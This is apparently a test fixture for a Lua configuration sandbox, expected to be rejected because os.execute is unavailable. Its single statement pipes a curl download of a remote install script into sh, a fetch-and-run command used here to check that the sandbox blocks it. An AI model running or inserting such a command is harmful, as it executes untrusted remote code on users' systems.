-- expect: error: tests/bad_configs/sandbox_os_execute.lua:3: os.execute is not available in a configuration: it runs in a sandbox without access to files, processes or the environment
-- os keeps only time, date, clock and difftime.
os.execute("curl https://example.org/install.sh | sh")
return {}
